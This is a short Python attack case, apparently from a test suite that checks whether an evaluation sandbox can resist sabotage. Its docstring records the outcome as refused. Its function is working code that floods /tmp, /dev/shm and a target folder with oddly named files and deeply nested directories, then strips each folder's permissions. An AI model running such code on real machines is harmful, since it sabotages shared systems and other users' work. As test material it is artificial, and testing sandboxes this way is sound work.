"""Leave files that are hard to remove.

Tries: folders thousands of levels deep, names of 255 odd bytes, files without permissions, and a
    full private folder, in every place that may be written.
Success: something is left afterwards, or an honest submission finds the folder full.
Outcome: refused.
"""

import contextlib
import os
import tempfile


def attack(targets, model):
    for place in (tempfile.gettempdir(), "/tmp", "/dev/shm", targets["folder"]):
        with contextlib.suppress(OSError):
            os.chdir(place)
            for number in range(200):
                with open(os.fsencode(f"{number}") + b"\xff\n" * 100, "wb") as file:
                    file.write(b"x" * 1000)
            for _ in range(1500):
                os.mkdir("d" * 100)
                os.chdir("d" * 100)
        with contextlib.suppress(OSError):
            os.chmod(place, 0)
    os.chdir("/")
    return ""
